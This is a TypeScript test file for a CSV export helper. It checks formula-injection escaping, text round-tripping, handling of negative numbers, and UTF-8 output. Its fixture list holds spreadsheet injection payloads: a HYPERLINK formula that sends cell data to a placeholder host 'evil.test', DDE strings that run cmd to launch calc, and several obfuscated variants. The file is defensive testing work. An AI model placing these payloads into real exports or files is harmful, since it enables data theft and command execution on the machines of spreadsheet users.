import { parse } from 'csv-parse/sync';
import { expect, test } from 'vitest';
import { csvFile, csvLine } from './csv.ts';

const FORMULAS = [
  '=HYPERLINK("https://evil.test?"&A1;"Open")',
  '+254712345678',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+9)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '|calc',
  '%0A=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
];
const TEXTS = ['Mama "Njeri", Café', 'two\r\nlines', "an apostrophe's", ';', '', '१२३', '🎁', '1,234', 'a=b'];

test('A19 puts an apostrophe before a cell that a spreadsheet would run, and keeps it one cell', () => {
  for (const formula of FORMULAS) {
    const [cells] = parse(csvLine([formula, 'next']));
    expect(cells).toEqual([`'${formula}`, 'next']);
  }
});

test('A19 every other text survives a round trip, including quotes, commas and line breaks', () => {
  expect(parse(csvLine(TEXTS) + csvLine(TEXTS.toReversed()))).toEqual([TEXTS, TEXTS.toReversed()]);
});

test('A19 leaves a negative amount a number, so that a spreadsheet can sum it', () => {
  expect(csvLine([-12, '-12.50', '-12.50-1', 0, undefined])).toBe(`"-12","-12.50","'-12.50-1","0",""\r\n`);
});

test('writes the headings, then every page in order, in UTF-8 that spreadsheets recognise', async () => {
  const file = csvFile(
    'sums',
    [
      ['Name', (row: { name: string; sum: number }) => row.name],
      ['Sum', ({ sum }) => sum],
    ],
    [[{ name: 'Wanjikũ', sum: 1 }], [], [{ name: 'Otieno', sum: -2 }]],
  );
  expect(file.fileName).toBe('sums.csv');
  const chunks: string[] = [];
  for await (const chunk of file.content as AsyncIterable<Buffer>) chunks.push(chunk.toString());
  expect(chunks.join('')).toBe('\ufeff"Name","Sum"\r\n"Wanjikũ","1"\r\n"Otieno","-2"\r\n');
});
